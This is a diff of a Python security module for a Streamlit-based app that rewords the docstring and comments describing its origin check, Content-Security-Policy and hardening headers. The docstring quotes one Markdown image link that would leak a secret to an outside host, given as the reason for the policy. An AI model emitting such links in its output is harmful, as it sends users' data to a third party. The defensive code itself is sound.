@@ -1,10 +1,10 @@
-"""Security: who may talk to the app, and what a browser may load for it.
+"""Security: which requests the app answers, and what a browser may load for its pages.
 
-`OwnOriginOnly` refuses requests that other sites' pages make (another Origin) and those for
-another name (another Host, as in DNS rebinding). `SecurityHeaders` adds a Content-Security-Policy
-to every response: answers and documents are untrusted text, and Markdown such as
-`![](http://elsewhere/?q=secret)` would send data to a stranger. Escaping it while it streams
-misses what is split over two chunks; a policy in the browser does not.
+`OwnOriginOnly` refuses requests from other sites' pages (another Origin) and requests for another
+name (another Host, as in DNS rebinding). `SecurityHeaders` adds a Content-Security-Policy to every
+response, because answers and documents are untrusted text, and Markdown such as
+`![](http://elsewhere/?q=secret)` would send data to another server. Escaping chunks can miss markup
+that is split over two of them; a policy in the browser cannot.
 """
 
 import base64
@@ -31,13 +31,13 @@ def inline_script_hashes(html: str) -> list[str]:
 
 
 def content_security_policy() -> str:
-    """Everything from this server, nothing from elsewhere."""
+    """A policy that allows resources only from this server."""
     shell = Path(streamlit.__file__).parent / "static" / "index.html"
     scripts = " ".join(inline_script_hashes(shell.read_text(encoding="utf-8")))
     directives = {
         "default-src": "'self'",
-        # blob: is how Streamlit loads the JavaScript of a component; only script that already runs
-        # here can make such an address.
+        # Streamlit loads the JavaScript of a component from blob: addresses, which only scripts of
+        # this page can create.
         "script-src": f"'self' blob: {scripts}",
         "style-src": "'self' 'unsafe-inline'",  # Streamlit writes its styles into the page
         "img-src": "'self' data: blob:",
@@ -63,7 +63,7 @@ class SecurityHeaders:
             "Referrer-Policy": "no-referrer",  # the address names the conversation
             "X-Content-Type-Options": "nosniff",
             "Cross-Origin-Resource-Policy": "same-origin",  # no other site may embed a file
-            "X-DNS-Prefetch-Control": "off",  # a link's host name can carry a secret, unclicked
+            "X-DNS-Prefetch-Control": "off",  # the host name of a link can contain a secret
         }
 
     async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
